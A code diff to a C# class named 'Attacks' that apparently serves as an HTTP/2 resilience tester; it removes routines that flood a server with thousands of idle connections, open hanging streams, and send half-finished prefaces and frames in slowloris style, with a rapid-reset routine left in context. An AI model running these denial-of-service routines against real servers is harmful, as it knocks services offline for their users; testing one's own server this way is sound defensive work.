@@ -22,33 +22,6 @@ internal static class Attacks
     private const byte Continuation = 9, Priority = 2, Unknown = 0x77;
     private static readonly TimeSpan ClosesWithin = TimeSpan.FromSeconds(15);
 
-    public static async Task<string[]> IdleConnectionsAsync(Target target)
-    {
-        var open = new List<RawHttp2>();
-        for (var number = 0; number < target.Of(2_000, 9_000); number++) open.Add(await RawHttp2.Connect(target.Server));
-        await Task.Delay(TimeSpan.FromSeconds(1));
-        foreach (var connection in open) await connection.DisposeAsync();
-        return [];
-    }
-
-    public static async Task<string[]> HangingStreamsAsync(Target target)
-    {
-        var open = new List<RawHttp2>();
-        for (var number = 0; number < target.Of(20, 100); number++)
-        {
-            var connection = await RawHttp2.Connect(target.Server);
-            open.Add(connection);
-            for (var stream = 1; stream < 200; stream += 2)
-            {
-                await connection.Send(RawHttp2.Headers, RawHttp2.EndHeaders, stream, target.Headers);
-            }
-        }
-
-        await Task.Delay(TimeSpan.FromSeconds(1));
-        foreach (var connection in open) await connection.DisposeAsync();
-        return [];
-    }
-
     /// <summary>Begins and resets streams, on new connections again and again.</summary>
     public static Task<string[]> RapidResetAsync(Target target) => ForAsync(target, async connection =>
     {
@@ -118,48 +91,6 @@ internal static class Attacks
         }
 
         return [.. held];
-    }
-
-    /// <summary>Connections that begin and do not go on.</summary>
-    public static async Task<string[]> SlowAsync(Target target)
-    {
-        (string Name, byte[] Bytes)[] beginnings =
-        [
-            ("half a preface", "PRI * HTTP"u8.ToArray()),
-            ("half a frame", [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, 0, 0, 6, 4]),
-            ("headers without an end",
-            [
-                .. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. RawHttp2.Frame(RawHttp2.Settings, 0, 0, []),
-                .. RawHttp2.Frame(RawHttp2.Headers, 0, 1, target.Headers),
-            ]),
-        ];
-        var stayed = await Task.WhenAll(beginnings.Select(async beginning =>
-        {
-            using var client = new TcpClient();
-            await client.ConnectAsync(target.Server.Host, target.Server.Port);
-            var stream = client.GetStream();
-            await stream.WriteAsync(beginning.Bytes);
-            var began = Stopwatch.GetTimestamp();
-            using var patience = new CancellationTokenSource(ClosesWithin);
-            try
-            {
-                var buffer = new byte[4096];
-                while (await stream.ReadAsync(buffer, patience.Token) > 0)
-                {
-                }
-
-                return null;
-            }
-            catch (IOException)
-            {
-                return null;
-            }
-            catch (OperationCanceledException)
-            {
-                return $"{beginning.Name} is open after {Stopwatch.GetElapsedTime(began).TotalSeconds:0} s";
-            }
-        }));
-        return [.. stayed.OfType<string>()];
     }
 
     /// <summary>Headers that no client sends. Each is answered by a status of gRPC, a reset, or the end of the connection.</summary>
